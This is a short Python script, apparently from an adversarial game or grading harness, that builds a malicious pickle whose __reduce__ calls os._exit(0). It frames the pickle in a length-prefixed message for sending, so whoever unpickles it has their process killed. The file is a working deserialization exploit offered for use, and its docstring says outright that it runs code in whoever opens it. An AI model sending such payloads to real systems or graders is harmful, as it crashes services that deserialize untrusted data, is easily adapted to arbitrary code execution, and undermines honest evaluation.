"""Sends pickles that run code in whoever opens them.

kind: stop
A, B, C: nothing
"""

# %%
import os
import pickle
import struct


class Bomb:
    def __reduce__(self):
        return os._exit, (0,)


def framed(structure):
    """A message of the grader's codec: its length, the length of the structure, the structure."""
    return struct.pack(">II", len(structure) + 4, len(structure)) + structure


MESSAGE = framed(pickle.dumps(Bomb()))


# %%
# include: send_message
